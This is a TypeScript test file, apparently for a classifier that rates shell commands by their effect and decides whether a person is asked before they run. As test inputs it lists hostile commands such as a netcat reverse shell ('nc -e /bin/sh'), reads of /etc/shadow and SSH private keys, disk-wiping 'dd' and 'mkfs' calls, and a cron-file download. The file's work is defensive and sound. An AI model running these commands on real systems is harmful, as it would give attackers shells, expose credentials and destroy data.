import * as fc from "fast-check";
import { describe, expect, it } from "vitest";
import { EFFECTS } from "../../../src-main/contract/terms.ts";
import { classify, commandWords, MAX_LENGTH } from "../../../src-main/shellcheck/index.ts";
import { BORDERS } from "../../fixtures/shellcheck/borders.ts";
import { VERDICTS } from "../../fixtures/shellcheck/verdicts.ts";

const effectOf = (command: string): string => classify(command).effect;

describe("what a command may do", () => {
  it.each([
    ["echo hello", "pure"],
    ["ls", "read"],
    ["cat /etc/shadow", "read-secret"],
    ["curl http://x/", "egress"],
    ["curl -sL -o /dev/null http://x/", "egress"],
    ["wget -qO- http://x/", "egress"],
    ["resolvectl query example.com", "egress"],
    ["nc -z -w 3 db 5432", "egress"],
    ["docker push x", "egress"],
    // What talks to others is told by the worst it does besides.
    ["curl -o /etc/cron.d/x http://x/", "mutate"],
    ["curl -X DELETE http://x/", "mutate"],
    ["wget http://x/", "mutate"],
    ["scp a host:b", "mutate"],
    ["docker pull x", "mutate"],
    ["rsync -a --delete a/ b/", "destructive"],
    ["aws s3 rm s3://x", "destructive"],
    ["nc -e /bin/sh 10.0.0.1 1", "arbitrary-exec"],
    ["ssh host id", "arbitrary-exec"],
    ["socat - EXEC:sh", "arbitrary-exec"],
    ["networkctl down eth0", "service-impact"],
    ["resolvectl dns eth0 10.0.0.1", "service-impact"],
    ["timedatectl set-time 10:00", "service-impact"],
    ["efibootmgr -b 0 -B", "service-impact"],
    ["blockdev --setro /dev/sda", "service-impact"],
    ["kubectl set image deploy/x x=y", "service-impact"],
    ["systemctl clean nginx", "destructive"],
    ["systemctl enable nginx", "service-impact"],
    ["systemctl enable /tmp/x.service", "arbitrary-exec"],
    ["systemctl link /tmp/x.service", "arbitrary-exec"],
    ["busctl call a b c d", "arbitrary-exec"],
    ["lspci -xxxx", "service-impact"],
    ["mkdir x", "mutate"],
    ["systemctl restart nginx", "service-impact"],
    ["rm -r x", "destructive"],
    ["mkfs.ext4 /dev/sdb", "destructive"],
    ["dd if=x of=/dev/sdb", "destructive"],
    ["find . -delete", "destructive"],
    ["bash -c id", "arbitrary-exec"],
    ["frobnicate", "unknown"],
    ["psql -c 'DROP TABLE x'", "unknown"],
    ["ls; rm x", "destructive"],
    ["ls > out", "mutate"],
    ["ls > /dev/sda", "destructive"],
    ["sort -o a b", "mutate"],
    ["sort --compress-program=x b", "arbitrary-exec"],
    ["docker stop web", "service-impact"],
    ["kubectl delete pod x", "destructive"],
    ["sudo systemctl restart nginx", "service-impact"],
    ["x=1", "pure"],
    ["PATH=/tmp ls", "arbitrary-exec"],
    ["LC_ALL=C sort a", "read"],
  ])("%s is %s", (command, effect) => {
    expect(effectOf(command)).toBe(effect);
  });

  it("joins the parts: nothing a part may do is lost", () => {
    const parts = ["echo x", "ls", "cat /etc/shadow", "curl http://x", "touch x", "systemctl stop x", "rm x", "bash x"];
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...parts), { minLength: 1, maxLength: 5 }), fc.constantFrom("; ", " && ", " | ", "\n"), (chosen, joint) => {
        const worst = Math.max(...chosen.map((part) => EFFECTS.indexOf(classify(part).effect)));
        const whole = classify(chosen.join(joint));
        expect(EFFECTS.indexOf(whole.effect)).toBeGreaterThanOrEqual(worst);
        expect(whole.proved).toBe(chosen.every((part) => classify(part).proved));
      }),
    );
  });

  it("answers for any text at all, and never throws", () => {
    fc.assert(fc.property(fc.string({ unit: "binary", maxLength: 200 }), (text) => void expect(typeof classify(text).proved).toBe("boolean")));
    const shellish = fc.array(fc.constantFrom("ls", " ", "$(", ")", "`", "'", '"', "{", "}", "((", "))", "[[", "]]", "<<E\n", ";", "|", "&", ">", "<", "\\", "\n", "if ", "then ", "fi", "for x in ", "do ", "done", "${", "x", "=", "*", "?", "[", "#", "!"), { maxLength: 30 });
    fc.assert(fc.property(shellish, (pieces) => void expect(typeof classify(pieces.join("")).proved).toBe("boolean")), { numRuns: 500 });
  });
});

describe("what a person is asked with", () => {
  const verdictOf = (command: string): string => {
    const { proved, effect, rule } = classify(command);
    return `${proved ? "proved " : ""}${effect} ${rule}`;
  };

  it.each(Object.entries(BORDERS))("tells apart: %s", (_name, cases) => {
    expect(cases.map(([command]) => [command, verdictOf(command)])).toEqual(cases);
  });

  it("is the worst that the command may do, and the rule that says so", () => {
    expect(VERDICTS.map(([command]) => [command, verdictOf(command)])).toEqual(VERDICTS);
  });
});

describe("caps", () => {
  it("denies what is too long, too deep or too much, rather than asking", () => {
    for (const command of [`echo ${"x".repeat(MAX_LENGTH)}`, `${"$(echo ".repeat(40)}x${")".repeat(40)}`, "ls;".repeat(2500), "ls\0"]) {
      expect(classify(command)).toMatchObject({ denied: true, proved: false, effect: "unknown" });
      expect(classify(command).refused).toMatch(/never run/);
    }
  });

  it("lets what is just short of them through", () => {
    expect(classify(`echo ${"x".repeat(MAX_LENGTH - 10)}`).proved).toBe(true);
    expect(classify(`echo ${"x".repeat(MAX_LENGTH - 5)}`).proved).toBe(true);
    expect(classify("ls;".repeat(1900)).proved).toBe(true);
    expect(classify(`${"$(echo ".repeat(20)}x${")".repeat(20)}`).denied).toBeUndefined();
  });

  it("still denies what holds such characters besides", () => {
    expect(classify(`${"$(echo ".repeat(40)}\u00FC${")".repeat(40)}`)).toMatchObject({ denied: true, rule: "caps/refused" });
    expect(classify("reload ?\u00FC", { dialect: "cisco-ios" })).toMatchObject({ denied: true, rule: "caps/refused" });
  });

  it("asks, and does not deny, for characters outside plain text", () => {
    const verdict = classify("ls /srv/M\u00FCller");
    expect(verdict).toMatchObject({ proved: false, effect: "read", rule: "bytes/outside-printable" });
    expect(verdict.refused).toContain("U+00FC");
    expect(verdict.denied).toBeUndefined();
  });
});

describe("the list of parts", () => {
  it("names every command with its rule and its reason", () => {
    const { segments } = classify("find . -name x | xargs rm; echo $(id)");
    expect(segments.map(({ argv }) => argv[0])).toEqual(["find", "rm", "xargs", "id", "echo"]);
    expect(segments.every(({ rule, why }) => rule !== "" && why !== "")).toBe(true);
  });

  it("names redirections and assignments as parts of their own", () => {
    expect(classify("x=1 ls > out").segments.map(({ rule }) => rule)).toEqual(["structure/assignment", "redirect/output", "coreutils/ls"]);
  });

  it("reads the text of backquotes with the text's own places", () => {
    expect(classify("echo `echo \\`id\\``").segments.map(({ text }) => text)).toEqual(["id", "echo `id`", "echo `echo \\`id\\``"]);
    expect(commandWords("echo `id -u` x")).toEqual([["echo", "`id -u`", "x"], ["id", "-u"]]);
  });

  // Of each part: its text, its words as they are known, and what it redirects.
  it.each([
    ["x=1 ls -l \"$y\" > out 2>&1 &", [["x=1 ls -l \"$y\" > out 2>&1 &", [], []], ["x=1", [], []], ["x=1 ls -l \"$y\" > out 2>&1", [], ["> out"]], ["x=1 ls -l \"$y\" > out 2>&1", ["ls", "-l", "\"$y\""], ["> out", "2>&1"]]]],
    ["find . -name '*.c' -exec wc -l {} + | sort -n", [["wc -l {}", ["wc", "-l", "{}"], []], ["find . -name '*.c' -exec wc -l {} +", ["find", ".", "-name", "*.c", "-exec", "wc", "-l", "{}", "+"], []], ["sort -n", ["sort", "-n"], []]]],
    ["echo \"$DB_PASSWORD\" ${x:=1}", [["$DB_PASSWORD", [], []], ["${x:=1}", [], []], ["echo \"$DB_PASSWORD\" ${x:=1}", ["echo", "\"$DB_PASSWORD\"", "${x:=1}"], []]]],
    ["declare a=(1) b", [["a=(1)", [], []], ["declare a=(1) b", ["declare", "a=(1)", "b"], []]]],
    ["{ ls; } < .env > out", [["{ ls; } < .env > out", [], ["< .env"]], ["{ ls; } < .env > out", [], ["> out"]], ["ls", ["ls"], []]]],
    ["cat <<E >out\n$(id)\nE", [["id", ["id"], []], ["cat <<E >out", [], ["<<E"]], ["cat <<E >out", [], [">out"]], ["cat <<E >out", ["cat"], ["<<E", ">out"]]]],
    ["f() { ls -l; }", [["f() { ls -l; }", [], []], ["ls -l", ["ls", "-l"], []]]],
    ["sudo -u root ls 'a b'", [["ls 'a b'", ["ls", "a b"], []], ["sudo -u root ls 'a b'", ["sudo", "-u", "root", "ls", "a b"], []]]],
  ])("shows %s as it will run", (command, parts) => {
    expect(classify(command).segments.map(({ text, argv, redirects }) => [text, argv, redirects])).toEqual(parts);
  });

  it.each([
    ["PATH=/tmp ls", "PATH decides"],
    ["x=1 ls", "what later words mean"],
    ["ls; )", "unexpected token"],
    ["ls; df", "All 2 parts are proved read-only. ls lists files"],
    ["ls --bogus", '"--bogus"'],
    ["sort -o a b", "writes over a file"],
    ["rm x", "destroys files"],
    ["cat \"$x\"", '"$x"'],
    ["kill 1", "the option that makes this a reading is missing"],
    ["frobnicate x", "frobnicate"],
    ["/tmp/ls -l", "/tmp/ls"],
    ["ls > \"$x\"", "not known"],
    ["ls > out", "written to out"],
    ["ls > /dev/sda", "the device /dev/sda"],
    ["for PATH in x; do ls; done", "the loop sets PATH"],
    ["find . -ok ls {} \\;", "-ok runs a command"],
    ["find . -bogus", '"-bogus"'],
    ["find . -exec ls", '"-exec" is not closed'],
    ["find . -name", '"-name" lacks its value'],
    ["find . !", "a negation stands alone"],
    ["find . \\( -name x", "a parenthesis is not closed"],
    ["find . -delete", "-delete removes"],
    ["find . -fprint x", "-fprint writes"],
    ["find . -fls x", "-fls writes"],
    ["sed 'w out' x", "sed's w command writes"],
    ["sed 's/a/b/e' x", "the e flag"],
    ["tar tf a.tar -Ish", '"-Ish"'],
    ["tar tf a.tar --xattrs", '"--xattrs"'],
    ["cat .env", '".env"'],
    ["ps --bogus", '"--bogus"'],
    ["sudo ls", "another account's rights"],
    ["doas ls", "another account's rights"],
    ["nohup ls", "outlives the session"],
    ["setsid ls", "outlive the session"],
    ["chrt -r ls", "the scheduler"],
    ["awk '{ system(1) }' x", "system"],
    ["psql -X -d 'dbname=a options=-csearch_path=pg_catalog' -c 'select evil from pg_locks'", '"evil"'],
    ["psql -X -d 'dbname=a options=-csearch_path=pg_catalog' -c 'select pg_evil(1)'", '"pg_evil"'],
    ["psql -X -d 'dbname=a options=-csearch_path=pg_catalog' -c 'select pid from evil'", '"evil"'],
    ["psql -X -d 'dbname=a options=-csearch_path=pg_catalog' -c 'select pid from pg_locks where pg_locks'", '"pg_locks"'],
    ["psql -X -d 'dbname=a options=-csearch_path=pg_catalog' -c 'select $1 from pg_locks'", '" $1 from pg_"'],
    ["psql -X --bogus", '"--bogus"'],
  ])("tells an operator what stands in the way of %s", (command, words) => {
    expect(classify(command).why).toContain(words);
  });

  it("says when there is nothing to run", () => {
    expect(classify("")).toMatchObject({ proved: false, rule: "structure/empty" });
    expect(classify("ls", { dialect: "posix" }).version).toBe(classify("ls").version);
  });
});

describe("secrets", () => {
  it.each(["cat /etc/shadow", "cat /etc/sh*", "grep -r x /etc", "cat ~/.ssh/id_rsa", "cat /proc/1/environ", "cat .env", "find . -exec cat {} +", "find / -name '*.c' -exec grep -i password {} +", "cat /run/secrets/x", "head server.key", "cat < /etc/shadow", "echo $DB_PASSWORD"])("%s is reading a secret", (command) => {
    expect(classify(command)).toMatchObject({ proved: false, effect: "read-secret" });
  });

  it.each(["cat /etc/passwd", "cat ~/.ssh/id_rsa.pub", "ls ~/.ssh", "stat /etc/shadow", "cat /var/log/*", "grep -r x /var/log", "find . -name '*.c' -exec cat {} +", "cat /proc/cpuinfo"])("%s is not", (command) => {
    expect(classify(command)).toMatchObject({ proved: true });
  });
});
